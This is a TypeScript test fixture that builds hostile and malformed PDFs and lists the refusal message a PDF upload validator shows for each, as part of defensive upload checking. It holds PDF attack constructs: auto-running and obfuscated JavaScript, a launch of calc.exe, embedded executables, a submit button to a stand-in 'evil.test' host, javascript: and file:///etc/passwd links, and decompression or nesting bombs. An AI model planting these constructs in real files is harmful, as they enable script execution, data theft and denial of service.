import type { HostileFile, HostileRow } from './hostile.ts';
import { formPdf, packed, pdfOf, streamOf } from './pdfs.ts';

const other =
  'This file is not a PDF, although its name says so. Open it in the program that made it, and save it as a PDF.';
const damaged =
  'This PDF is damaged or not complete. Open it in the program that made it, save it as a PDF again, and upload the new file.';
const heavy =
  'This PDF is too intricate to be checked. Open it in the program that made it, save it as a simpler PDF, and upload the new file.';
const locked = 'This PDF is protected. Save it without a password and without restrictions, and upload that file.';
const signed = 'This PDF is signed, and the signature would be lost. Upload the form without a signature.';
const runs =
  'This PDF contains scripts, or actions that start by themselves. Remove them in the program that made the form, and upload it again.';
const sends =
  'This PDF contains a button that sends or fetches data. Remove it in the program that made the form, and upload it again.';
const files =
  'This PDF contains or opens other files, such as attachments, films or sounds. Remove them in the program that made it, and upload it again.';
const dynamic =
  'This PDF is a dynamic form (XFA), which many programs cannot open. Save it as a static PDF form, and upload that file.';
const link = (address: string): string =>
  `This PDF has a link to ${address}. Change it to an address that starts with https:// or mailto:, and upload the file again.`;

const script = '<</S/JavaScript/JS(app.alert(1))>>';
const button = (action: string): string => `<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[0 0 9 9]/A ${action}>>`;
const linkTo = (address: string): string => `<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI${address}>>>>`;
const whole = formPdf();

/** What is no form to be handed to readers: what it is, its bytes, and the words to the editor. */
const pdfs: readonly (readonly [what: string, bytes: () => Buffer, words: string])[] = [
  ['nothing', () => Buffer.alloc(0), other],
  ['a page', () => Buffer.from('<!doctype html><script>alert(1)</script>'), other],
  ['behind-a-page', () => Buffer.concat([Buffer.from('<script>alert(1)</script>\n'), whole]), other],
  ['only-its-head', () => Buffer.from('%PDF-1.7 <</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>'), damaged],
  ['cut-in-half', () => whole.subarray(0, whole.length / 2), damaged],
  ['cut-at-the-end', () => whole.subarray(0, -12), damaged],
  ['without-its-middle', () => Buffer.concat([whole.subarray(0, 300), whole.subarray(-40)]), damaged],
  ['without-pages', () => pdfOf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']), damaged],
  ['without-catalog', () => pdfOf(['<</Type/Pages/Kids[]/Count 0>>']), damaged],
  ['before-a-program', () => Buffer.concat([whole, Buffer.from('PK\u0003\u0004')]), damaged],
  [
    'with-a-password',
    () => formPdf({ more: ['<</Filter/Standard/V 1/R 2/O(x)/U(x)/P -4>>'], trailer: '/Encrypt 9 0 R/ID[<00><00>]' }),
    locked,
  ],
  ['signed', () => formPdf({ more: ['<</Type/Sig/ByteRange[0 9 19 9]/Contents<00>>>'] }), signed],
  ['script-at-once', () => formPdf({ catalog: `/OpenAction${script}` }), runs],
  ['script-at-once-elsewhere', () => formPdf({ catalog: '/OpenAction 9 0 R', more: [script] }), runs],
  ['script-by-name', () => formPdf({ catalog: `/Names<</JavaScript<</Names[(a)${script}]>>>>` }), runs],
  ['script-in-other-letters', () => formPdf({ field: '/A<</S/J#61va#53cript/#4a#53(app.alert(1))>>' }), runs],
  ['script-of-a-field', () => formPdf({ field: `/AA<</K${script}>>` }), runs],
  ['script-of-a-page', () => formPdf({ page: `/AA<</O${script}>>` }), runs],
  ['script-after-a-link', () => formPdf({ field: `/A<</S/GoTo/D[3 0 R/Fit]/Next[${script}]>>` }), runs],
  ['script-nobody-names', () => formPdf({ more: [script] }), runs],
  ['script-packed', () => formPdf({ more: [packed({ 20: script })] }), runs],
  ['script-packed-twice', () => formPdf({ more: [packed({ 20: script }, ['FlateDecode', 'FlateDecode'])] }), runs],
  ['script-of-a-drawing', () => formPdf({ more: [streamOf('/Type/XObject/Subtype/PS', '')] }), runs],
  [
    'kind-elsewhere',
    () => formPdf({ field: '/A<</S 9 0 R/JS 10 0 R>>', more: ['/JavaScript', '(app.alert(1))'] }),
    runs,
  ],
  ['page-at-once', () => formPdf({ catalog: '/OpenAction<</S/URI/URI(https://example.org/)>>' }), runs],
  ['program', () => formPdf({ more: [button('<</S/Launch/F(calc.exe)>>')] }), files],
  ['other-document', () => formPdf({ more: [button('<</S/GoToR/F(//host/share/a.pdf)/D[0/Fit]>>')] }), files],
  ['document-inside', () => formPdf({ more: [button('<</S/GoToE/D[0/Fit]>>')] }), files],
  ['attachment', () => formPdf({ catalog: '/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>', more: ['<<>>'] }), files],
  [
    'attachment-on-a-page',
    () => formPdf({ more: ['<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</Type/Filespec/F(a.exe)>>>>'] }),
    files,
  ],
  ['file-in-a-stream', () => formPdf({ more: [streamOf('/Type/EmbeddedFile', 'MZ')] }), files],
  ['stream-elsewhere', () => formPdf({ more: [streamOf('/F(//host/share/a)', '')] }), files],
  ['film', () => formPdf({ more: ['<</Type/Annot/Subtype/RichMedia/RichMediaContent<<>>>>'] }), files],
  ['sound', () => formPdf({ more: [button('<</S/Rendition/OP 0>>')] }), files],
  ['sends', () => formPdf({ more: [button('<</S/SubmitForm/F(https://evil.test/)/Flags 4>>')] }), sends],
  ['fetches', () => formPdf({ more: [button('<</S/ImportData/F(a.fdf)>>')] }), sends],
  ['dynamic', () => formPdf({ form: '/XFA 9 0 R', more: [streamOf('', '<xdp:xdp/>')] }), dynamic],
  ['link-that-runs', () => formPdf({ more: [linkTo('(javascript:alert\\(1\\))')] }), link('javascript:alert(1)')],
  ['link-to-a-file', () => formPdf({ more: [linkTo('(file:///etc/passwd)')] }), link('file:///etc/passwd')],
  ['link-unguarded', () => formPdf({ more: [linkTo('(http://example.org/)')] }), link('http://example.org/')],
  ['link-in-digits', () => formPdf({ more: [linkTo('<6461746131>')] }), link('data1')],
  ['link-to-here', () => formPdf({ more: [linkTo('(form.exe)')], catalog: '/Lang(en)' }), link('form.exe')],
  ['base-of-links', () => formPdf({ catalog: '/URI<</Base(http://evil.test/)>>' }), link('http://evil.test/')],
  ['swells', () => formPdf({ more: [packed({ 20: `(${'a'.repeat(1e8)})` })] }), damaged],
  ['nested', () => formPdf({ more: ['['.repeat(1e6) + ']'.repeat(1e6)] }), damaged],
  ['many-objects', () => formPdf({ more: Array.from({ length: 20_001 }, () => 'null') }), heavy],
  ['endless-index', () => formPdf({ more: [streamOf('/Type/XRef/Size 2000000000/W[0 0 0]/Root 1 0 R', '')] }), heavy],
  [
    'more-than-50-pages',
    () =>
      pdfOf([
        '<</Type/Catalog/Pages 2 0 R>>',
        `<</Type/Pages/Count 51/Kids[${Array.from({ length: 51 }, (_, index) => `${index + 3} 0 R`).join(' ')}]>>`,
        ...Array.from({ length: 51 }, () => '<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>'),
      ]),
    'This PDF has more than 50 pages. Upload a shorter one.',
  ],
  [
    'more-than-10-MB',
    () => formPdf({ more: [streamOf('', Buffer.alloc(10 * 1024 * 1024))] }),
    'This PDF is larger than 10 MB. Save it with smaller pictures, and upload the new file.',
  ],
];

const refused = pdfs.map(([what, bytes, words]): HostileFile => ({
  name: `${what}.pdf`,
  type: 'application/pdf',
  bytes: () => Promise.resolve(bytes()),
  refused: words,
}));

/** PDFs. */
export const hostilePdfs: readonly HostileRow[] = [
  {
    number: 73,
    input: 'PDF that runs, sends, hides or hoards something, or is none',
    attempts: [],
    files: refused,
    tested: [['pdfs.test.ts', 'is stored without what tells who made it, with what, and what was in it before']],
  },
];
